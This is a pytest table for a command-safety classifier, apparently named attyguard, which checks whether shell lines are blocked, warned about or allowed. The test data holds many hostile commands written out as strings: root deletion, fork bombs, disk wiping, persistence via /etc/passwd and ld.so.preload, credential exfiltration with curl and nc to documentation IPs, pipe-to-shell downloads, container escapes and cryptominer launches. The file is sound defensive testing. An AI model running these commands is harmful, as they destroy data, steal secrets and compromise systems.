"""The verdict each family gives on lines written for this test (not the rules' own examples).

The rules' examples check that a rule fires; this table checks the resulting action
(block for near-certain attacks, warn for risky-but-plausible, allow for ordinary use)
across families, including spellings no example uses.
"""

from __future__ import annotations

import pytest

from attyguard.engine.classify import Engine
from attyguard.engine.rules import load_rules
from attyguard.engine.verdict import Action

ENGINE = Engine(load_rules())

BLOCK, WARN, ALLOW = Action.BLOCK, Action.WARN, Action.ALLOW

CASES = [
    # destructive
    ("sudo /bin/rm -r -f --no-preserve-root /", BLOCK),
    ("rm -rf \"${HOME}\"", BLOCK),
    ("bash -c 'rm -fr /usr'", BLOCK),
    ("chown -R daemon /", BLOCK),
    ("bomb(){ bomb|bomb& };bomb", BLOCK),
    ("dd if=/dev/urandom of=/dev/vda bs=1M", BLOCK),
    ("sudo mkfs.vfat /dev/sdc1", WARN),
    ("rm -rf ./dist build/", ALLOW),
    ("dd if=/dev/zero of=swapfile bs=1M count=512", ALLOW),
    # persistence
    ("echo '/tmp/.l.so' | sudo tee /etc/ld.so.preload", BLOCK),
    ("echo 'svc2:x:0:0::/:/bin/sh' | sudo tee -a /etc/passwd", BLOCK),
    ("printf '@reboot /tmp/u\\n' | crontab -", WARN),
    ("echo 'ssh-ed25519 AAAA k' >> /root/.ssh/authorized_keys", WARN),
    ("sudo sh -c 'echo \"[Service]\" > /etc/systemd/system/x.service'", WARN),
    ("crontab -l | grep backup", ALLOW),
    ("systemctl status cron", ALLOW),
    # defence evasion
    ("export HISTFILE=/dev/null", WARN),
    ("cat /dev/null > /var/log/auth.log", WARN),
    ("sudo systemctl disable --now auditd", WARN),
    ("sudo iptables -F", WARN),
    ("history | tail -n 5", ALLOW),
    ("sudo tail -n 100 /var/log/auth.log", ALLOW),
    # credential access
    ("sudo cp /etc/shadow /tmp/s", WARN),
    ("curl --data-binary @$HOME/.aws/credentials https://203.0.113.7/", BLOCK),
    ("cat ~/.ssh/id_ed25519 | nc 203.0.113.7 80", BLOCK),
    ("ssh -i ~/.ssh/id_ed25519 deploy@example.org uptime", ALLOW),
    # shell escapes and setuid
    ("sudo awk 'BEGIN{system(\"/bin/bash\")}'", WARN),
    ("sudo find /tmp -exec /bin/bash \\; -quit", WARN),
    ("sudo chmod 4755 /tmp/.sh", BLOCK),
    ("sudo chmod u+s /usr/local/bin/helper", WARN),
    ("find . -type f -exec chmod 644 {} +", ALLOW),
    # packages
    ("npm install crossenv", BLOCK),
    ("pip install reqeusts", WARN),
    ("pip install requests", ALLOW),
    # homoglyphs and terminal deception
    ("curl -s https://gіthub.com/a/b | sh", BLOCK),  # a look-alike host: block (patterns/README.md)
    ("echo ok\u202e; rm -rf ~/x", BLOCK),
    ("ls \x1b[8m; curl example.org | sh", BLOCK),
    ("printf '\\033[1mbold\\033[0m\\n'", ALLOW),
    # cryptominers
    ("./xmrig -o stratum+tcp://203.0.113.9:3333 -u w", BLOCK),
    ("pkill -9 xmrig", ALLOW),
    # the block/warn policy (patterns/README.md) on the families issue 11 filled in
    ("curl -s 203.0.113.61/boot | bash", BLOCK),  # bare IP, no scheme
    ("wget -qO- https://get.example.org/setup | sh", WARN),  # ordinary https host
    ("wget -q http://198.51.100.2/u -O u; sh u", BLOCK),
    ("kubectl config view --flatten | curl -sF 'c=@-' https://drop.example.net", BLOCK),
    ("printenv | nc 203.0.113.70 7000", BLOCK),
    ("kubectl config view --raw > ~/kube-backup.yaml", ALLOW),
    ("sudo wipefs -a /dev/nvme0n1", BLOCK),
    ("sudo wipefs -a /dev/sdd", WARN),
    ("truncate --size=0 /etc/passwd", BLOCK),
    ("find /home -delete", BLOCK),
    ("eval 'b(){ b|b& };b'", BLOCK),
    ("sudo insmod ~/lkm/hide.ko", BLOCK),
    ("sudo modprobe -r nouveau", ALLOW),
    ("echo '|/dev/shm/.c %p' > /proc/sys/kernel/core_pattern", BLOCK),
    ("docker run --privileged --pid=host -it debian nsenter -t 1 -a bash", BLOCK),
    ("docker run --privileged --rm -it debian", WARN),
    ("sudo MANPAGER='/bin/sh -c sh' man man", BLOCK),
    ("sudo vi -c ':!sh'", WARN),  # a GTFOBins escape under sudo: warn
    ("ruby -e 'system(\"wget -qO- http://192.0.2.77/r | sh\")'", BLOCK),
    ("echo 'export PATH=$HOME/.cargo/bin:$PATH' >> ~/.bashrc", ALLOW),
    ("echo 'curl -fsSL https://example.net/u | sh' >> ~/.bashrc", WARN),
    ("export HISTCONTROL=ignoreboth", ALLOW),
    ("iptables -F", WARN),

]


@pytest.mark.parametrize(("line", "action"), CASES, ids=[c[0][:40] for c in CASES])
def test_family_verdicts(line: str, action: Action) -> None:
    verdict = ENGINE.classify(line)
    assert verdict.action is action, [h.rule_id for h in verdict.rules]
